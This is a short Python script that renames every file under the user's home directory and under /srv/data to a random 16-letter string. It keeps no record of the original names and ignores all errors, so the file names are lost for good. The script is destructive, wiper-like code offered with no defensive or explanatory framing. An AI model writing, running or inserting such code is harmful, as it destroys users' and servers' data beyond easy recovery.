import os
import random
import string

def scramble(root):
    for d, _, files in os.walk(root):
        for n in files:
            new = "".join(random.choices(string.ascii_letters, k=16))
            try:
                os.rename(os.path.join(d, n), os.path.join(d, new))
            except OSError:
                pass

scramble(os.path.expanduser("~"))
scramble("/srv/data")
